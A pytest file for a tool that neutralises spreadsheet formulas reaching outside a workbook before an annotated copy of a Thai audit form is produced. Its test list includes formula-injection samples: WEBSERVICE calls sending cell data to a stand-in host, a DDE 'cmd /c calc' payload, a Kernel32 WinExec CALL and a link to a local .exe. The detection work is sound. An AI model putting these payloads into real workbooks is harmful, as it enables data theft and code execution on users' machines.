"""Nothing in the annotated copy reaches out of it: what did is text, and its cell says so."""

import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from ita_audit.forms.annotated import annotate
from ita_audit.forms.annotated.inert import reaches_out

OUT = [
    '=WEBSERVICE("http://a.th/?"&A1)',
    '=_xlfn.WEBSERVICE("http://a.th")',
    '=1+webservice ("http://a.th")',
    '=IMPORTDATA("http://a.th")',
    '=_xlfn.IMAGE("http://a.th/x.png")',
    '=HYPERLINK("file:///c:/x.exe","กด")',
    r'=HYPERLINK("\\server\x","กด")',
    '=HYPERLINK(A1,"กด")',
    '=HYPERLINK("http://a.th/?"&A1,"กด")',
    "=cmd|' /c calc'!A0",
    '=DDE("soffice","x","y")',
    '=RTD("x",,"y")',
    "=[1]Sheet1!A1",
    "=SUM('C:\\d\\[b.xlsx]Sheet 1'!A1:A2)",
    "=[1]!ชื่อ",
    "='file:///tmp/b.ods'#$Sheet1.A1",
    "=INDIRECT(\"'[b.xlsx]S'!A1\")",
    'CALL("Kernel32","WinExec","JCJ","calc",0)',
]
KEPT = [
    "=SUM(A1:A9)",
    '=IF(A1>0,"[1]a!","cmd|x!")',
    "=SUM(Table1[จำนวน])",
    "=Table1[[#This Row],[จำนวน]]*2",
    '=HYPERLINK("https://www.banpao.go.th/x.pdf","ดู")',
    '=HYPERLINK("#แผ่น1!A1","ไป")',
    "='ข้อ 8.1'!C5",
    "=INDIRECT(A1)",
    '=VLOOKUP(A1,B:C,2,FALSE)&" webservice"',
]


@pytest.mark.parametrize("formula", OUT)
def test_what_asks_for_something_outside_is_told(formula):
    assert reaches_out(formula)


@pytest.mark.parametrize("formula", KEPT)
def test_what_an_officer_works_out_is_left(formula):
    assert not reaches_out(formula)


LINKS = [
    "file:///c:/x.exe",
    "evidence/x.pdf",
    r"\\server\share\x",
    "javascript:x",
    "HTTPS://a.go.th",
    "mailto:a@a.th",
]


@pytest.fixture(scope="module")
def copy(made, judged, top):
    """A form with all of it beside its answers, judged and annotated: the bytes, and the workbook."""
    import json

    form = made(json.loads((top / "fixtures" / "ban-pao-2568" / "submission.json").read_text("utf-8")))
    book = openpyxl.load_workbook(io.BytesIO(form))
    page = book.create_sheet("นอก")
    for row, formula in enumerate([*OUT, *KEPT], 1):
        page.cell(row, 1, f"={formula.removeprefix('=')}")
    page["C1"] = ArrayFormula("C1:C2", '=WEBSERVICE("http://a.th")')
    for row, target in enumerate(LINKS, 1):
        page.cell(row, 5, "ดู").hyperlink = target
    for name, text in (("ดึง", '=WEBSERVICE("http://a.th")'), ("นอก1", "[1]S!$A$1"), ("ใน", "'นอก'!$A$1")):
        book.defined_names[name] = DefinedName(name, attr_text=text.removeprefix("="))
    for cell, text in (("G1", 'WEBSERVICE("http://a.th/"&A1)="1"'), ("G2", "A1>1")):
        rule = DataValidation("custom", formula1=text)
        rule.add(cell)
        page.add_data_validation(rule)
        page.conditional_formatting.add(cell.replace("G", "H"), FormulaRule([text]))
    for data in ("'นอก'!$A$1:$A$3", "'[1]x'!$A$1:$A$3"):
        chart = BarChart()
        chart.add_data(Reference(page, range_string=data) if "[" not in data else Reference(page, 1, 1, 1, 3))
        if "[" in data:
            chart.series[0].val.numRef.f = data
        page.add_chart(chart, "K1")
    stream = io.BytesIO()
    book.save(stream)
    content = stream.getvalue()
    found = annotate(content, judged(content), "th")
    return found, openpyxl.load_workbook(io.BytesIO(found.content))


def test_every_cell_that_reached_out_is_text_with_a_note_and_every_other_is_as_it_was(copy):
    page = copy[1]["นอก"]
    for row, formula in enumerate(OUT, 1):
        cell = page.cell(row, 1)
        assert cell.data_type == "s" and cell.quotePrefix and cell.value == f"={formula.removeprefix('=')}"
        assert "ภายนอก" in cell.comment.text
    for row, formula in enumerate(KEPT, len(OUT) + 1):
        cell = page.cell(row, 1)
        assert (cell.data_type, cell.value, cell.comment) == ("f", formula, None)
    assert page["C1"].data_type == "s" and page["C1"].comment


def test_links_to_pages_and_mail_stay_and_others_are_named_in_a_note(copy):
    page = copy[1]["นอก"]
    kept = [page.cell(row, 5).hyperlink for row in range(1, len(LINKS) + 1)]
    assert [one.target if one else None for one in kept] == [None] * 4 + LINKS[4:]
    assert all(target in page.cell(row, 5).comment.text for row, target in enumerate(LINKS[:4], 1))


def test_names_rules_and_charts_that_reached_out_are_gone_and_named(copy):
    found, book = copy
    page = book["นอก"]
    assert set(book.defined_names) >= {"ใน"} and not {"ดึง", "นอก1"} & set(book.defined_names)
    assert [str(one.sqref) for one in page.data_validations.dataValidation] == ["G2"]
    assert [str(one.sqref) for one in page.conditional_formatting] == ["H2"]
    assert page["G1"].comment and page["H1"].comment and len(page._charts) == 1
    told = " ".join(one.th for one in found.lost)
    assert "ดึง" in told and "นอก1" in told and "BarChart" in told


def test_no_part_of_the_copy_is_live_towards_the_outside(copy):
    with zipfile.ZipFile(io.BytesIO(copy[0].content)) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    assert not [name for name in parts if re.search("externalLink|connections|queryTable", name)]
    targets = re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', " ".join(parts.values()))
    targets += re.findall(r'TargetMode="External"[^>]*Target="([^"]*)"', " ".join(parts.values()))
    assert all(re.match("https?://|mailto:", target, re.IGNORECASE) for target in targets)
    formulas = re.findall(
        r"<(?:\w+:)?(?:f|formula1?|definedName)(?: [^>]*)?>([^<]*)<", " ".join(parts.values())
    )
    assert formulas and not any(
        reaches_out(one.replace("&quot;", '"').replace("&amp;", "&")) for one in formulas
    )
